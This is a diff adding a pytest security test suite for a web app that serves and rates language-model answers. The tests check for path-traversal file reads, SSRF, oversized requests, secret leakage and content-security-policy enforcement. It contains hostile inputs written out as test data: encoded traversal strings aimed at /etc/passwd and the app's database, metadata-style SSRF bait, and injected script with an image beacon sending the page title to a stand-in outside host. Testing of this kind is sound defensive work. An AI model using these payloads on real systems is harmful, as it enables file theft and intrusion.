@@ -1,0 +1,222 @@
+"""What the running app gives away, and what it lets happen: files, addresses, secrets, scripts, its own end."""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+import threading
+import urllib.parse
+from pathlib import Path
+
+import httpx
+import pytest
+from conftest import App
+from gradio_client import Client
+from visiting import ASK, ASK_ALL, ask, wait_until_done
+
+PROJECT = Path(__file__).parents[2]
+PASSWORD = "a long enough password"
+FILE = "/gradio_api/file="
+SECRET = "s3cret-of-the-database"
+
+
+@pytest.fixture(scope="module")
+def guarded_app(page_model_path, page_adapter_path, tmp_path_factory):
+    """An app with an owner, and a data folder with a run and a database."""
+    data = tmp_path_factory.mktemp("data")
+    run = data / "runs" / "first"
+    run.mkdir(parents=True)
+    (run / "config.json").write_text("the run's config")
+    (data / "ratings.sqlite").write_bytes(b"")
+    model = ("--model", str(page_model_path), "--adapter", str(page_adapter_path))
+    running = App(data, *model, "--auth", PASSWORD, "--requests-per-minute", "0")
+    running.data = data
+    running.wait_for_line("is ready on")
+    yield running
+    if running.process.poll() is None:
+        running.stop()
+
+
+def disguises(path: Path):
+    """Ways to write a path that have fooled servers before."""
+    plain = str(path)
+    yield plain
+    yield urllib.parse.quote(plain, safe="")
+    yield urllib.parse.quote(urllib.parse.quote(plain, safe=""), safe="")
+    yield "/tmp/gradio/../.." + plain
+    yield "/tmp/gradio/%2e%2e/%2e%2e" + plain
+    yield "..%2f" * 12 + plain.lstrip("/")
+    yield "..\\" * 12 + plain.lstrip("/").replace("/", "\\")
+    yield plain + "%00.txt"
+    yield "//" + plain
+    yield "file://" + plain
+    yield "/proc/self/root" + plain
+
+
+def test_no_file_of_the_server_is_served(guarded_app, tmp_path):
+    link = tmp_path / "link.txt"
+    link.symlink_to("/etc/passwd")
+    data = guarded_app.data
+    wanted = [data / "ratings.sqlite", data / "runs/first/config.json", Path("/etc/passwd"), link, PROJECT / "app.py"]
+    with httpx.Client(base_url=guarded_app.url) as visitor, httpx.Client(base_url=guarded_app.url) as owner:
+        owner.post("/owner", data={"password": PASSWORD})
+        for path in wanted:
+            for disguise in disguises(path):
+                for route in (FILE, "/assets/"):
+                    assert visitor.get(route + disguise).status_code in (400, 403, 404), (route, disguise)
+                assert owner.get(FILE + disguise).status_code in (400, 403, 404), disguise
+
+
+def test_the_owner_gets_back_what_he_uploaded_and_no_link_out_of_there(guarded_app):
+    with httpx.Client(base_url=guarded_app.url) as owner:
+        owner.post("/owner", data={"password": PASSWORD})
+        files = {"files": ("rows.jsonl", b'{"question": "a"}')}
+        (stored,) = owner.post("/gradio_api/upload", files=files).json()
+        assert owner.get(FILE + stored).content == b'{"question": "a"}'
+        out = Path(stored).parent / f"{guarded_app.data.name}.jsonl"
+        out.symlink_to(guarded_app.data / "ratings.sqlite")
+        assert owner.get(FILE + str(out)).status_code in (403, 404)
+        out.unlink()
+        assert owner.post("/gradio_api/upload", files={"files": ("x.zip", b"PK\x03\x04")}).status_code == 415
+        assert owner.post("/gradio_api/upload", files={"files": ("../x.json", b"{}")}).status_code == 400
+        large = {"files": ("x.jsonl", b"x" * (21 * 2**20))}
+        assert owner.post("/gradio_api/upload", files=large).status_code == 413
+    assert httpx.get(guarded_app.url + FILE.lstrip("/") + stored).status_code == 404
+
+
+def test_the_server_fetches_nothing_that_a_call_names(guarded_app):
+    heard = []
+
+    class Trap(threading.Thread):
+        def run(self):
+            connection, _ = self.listening.accept()
+            heard.append(connection.recv(100))
+            connection.close()
+
+    import socket
+
+    trap = Trap(daemon=True)
+    trap.listening = socket.create_server(("127.0.0.1", 0))
+    trap.start()
+    bait = f"http://127.0.0.1:{trap.listening.getsockname()[1]}/latest/meta-data"
+    file = {"path": bait, "url": bait, "meta": {"_type": "gradio.FileData"}}
+    with httpx.Client(base_url=guarded_app.url) as owner:
+        owner.post("/owner", data={"password": PASSWORD})
+        for name in ("ask", "rate", "status"):
+            assert owner.post(f"/gradio_api/run/{name}", json={"data": [file, file]}).status_code == 400
+        owner.get(FILE + bait)
+        owner.get("/gradio_api/proxy=" + bait)
+    trap.listening.close()
+    assert heard == []
+
+
+def test_large_requests_are_refused_on_the_server(guarded_app):
+    call = f"{guarded_app.url}gradio_api/run/ask"
+    assert httpx.post(call, json={"data": ["x" * 300_000]}).status_code == 413
+    assert httpx.post(call, content=b"[" * 200_000).status_code == 400
+    assert httpx.get(guarded_app.url, headers={"x-long": "x" * 70_000}).status_code == 431
+
+
+def test_status_is_told_without_gradio(guarded_app):
+    status = httpx.get(f"{guarded_app.url}status").json()
+    assert status["ready"] is True
+    assert {"state", "model", "adapter", "queued", "answering", "uptime_seconds", "version"} <= set(status)
+    assert str(guarded_app.data) not in json.dumps(status)
+
+
+def test_secrets_stay_in_the_environment(start_app, monkeypatch):
+    monkeypatch.setenv("ADMIN_PASSWORD", SECRET)
+    monkeypatch.setenv("HF_TOKEN", f"hf_{SECRET}")
+    database = f"postgresql+psycopg://ann:{SECRET}@127.0.0.1:9/votes"
+    app = start_app("--model", "nothing/here", "--ratings", database, "--log-level", "debug", "--log-format", "json")
+    app.wait_for_line("ratings database")
+    seen = [httpx.get(app.url + path).text for path in ("", "config", "status", "owner", "gradio_api/info")]
+    client = Client(app.url, verbose=False, download_files=False, analytics_enabled=False)
+    for call in ({"api_name": "/results"}, {"pair": "x", "choice": "left", "api_name": "/rate"}):
+        with pytest.raises(Exception, match="ratings database") as told:
+            client.predict(**call)
+        seen.append(str(told.value))
+    client.close()
+    app.stop()
+    lines = app.remaining_lines()
+    assert SECRET not in "\n".join([*seen, *lines])
+    requests = [json.loads(line) for line in lines if line.startswith("{") and "space_config.access" in line]
+    assert requests
+    assert all(len(line["request"]) == 12 and {"status", "seconds", "role"} <= set(line) for line in requests)
+
+
+def test_an_answer_under_way_is_finished_before_the_app_ends(start_app, page_model_path, page_adapter_path):
+    app = start_app("--model", str(page_model_path), "--adapter", str(page_adapter_path), "--drain-seconds", "60")
+    app.wait_for_line("is ready on")
+    client = Client(app.url, verbose=False, download_files=False, analytics_enabled=False)
+    job = client.submit("What is a list?", max_new_tokens=150, api_name="/ask_pairs")
+    first = next(iter(job))
+    assert first[0]["left"]["state"] in ("waiting", "streaming")
+    app.process.send_signal(signal.SIGTERM)
+    assert job.result(timeout=60)[0]["left"]["tokens"] == 150
+    assert app.process.wait(timeout=60) == 0
+
+
+def test_training_and_asking_leave_no_file_that_others_may_write(guarded_app):
+    for root, _, names in os.walk(guarded_app.data):
+        for name in names:
+            assert not (Path(root) / name).stat().st_mode & 0o002
+
+
+VIOLATIONS = "addEventListener('securitypolicyviolation', e => (window.refused ??= []).push(e.violatedDirective))"
+
+
+@pytest.mark.browser
+def test_the_page_works_under_its_policy_with_every_outside_address_blocked(browser, guarded_app, complaints):
+    context = browser.new_context(viewport={"width": 1280, "height": 900})
+    context.add_init_script(VIOLATIONS)
+    context.route(lambda address: not address.startswith(guarded_app.url), lambda route: route.abort())
+    page = context.new_page()
+    page.on("console", lambda message: message.type == "error" and complaints.append(message.text))
+    page.goto(guarded_app.url, wait_until="domcontentloaded")
+    page.wait_for_selector(ASK_ALL)
+    ask(page, "What is a list?")
+    wait_until_done(page, 2)
+    page.locator(".ll-choice").first.click()
+    page.get_by_role("tab", name="Results").click()
+    page.wait_for_selector("#ll-results *")
+    assert page.evaluate("window.refused || []") == []
+    context.close()
+
+
+@pytest.mark.browser
+def test_the_policy_stops_a_script_that_someone_slipped_in(browser, guarded_app):
+    context = browser.new_context()
+    context.add_init_script(VIOLATIONS)
+    page = context.new_page()
+    page.goto(guarded_app.url, wait_until="domcontentloaded")
+    page.wait_for_selector(ASK)
+    page.evaluate(
+        """() => {
+            document.body.insertAdjacentHTML("beforeend", "<img src='data:x' onerror='window.stolen = 1'>");
+            const script = document.createElement("script");
+            script.textContent = "window.stolen = 2";
+            document.body.append(script);
+            const away = new Image();
+            away.src = "http://198.51.100.1/?" + document.title;
+        }"""
+    )
+    page.wait_for_function("(window.refused || []).length >= 3")
+    assert page.evaluate("window.stolen") is None
+    context.close()
+
+
+@pytest.mark.browser
+def test_a_refusal_is_said_on_the_page_in_words(browser, start_app, page_model_path, page_adapter_path):
+    model = ("--model", str(page_model_path), "--adapter", str(page_adapter_path))
+    app = start_app(*model, "--auth", PASSWORD, "--asks-per-minute", "1")
+    app.wait_for_line("is ready on")
+    page = browser.new_page()
+    page.goto(app.url, wait_until="domcontentloaded")
+    page.wait_for_selector(ASK_ALL)
+    ask(page, "First?")
+    wait_until_done(page, 2)
+    ask(page, "Second?")
+    page.get_by_text("That is too fast: try again in").first.wait_for(timeout=10_000)
+    page.close()
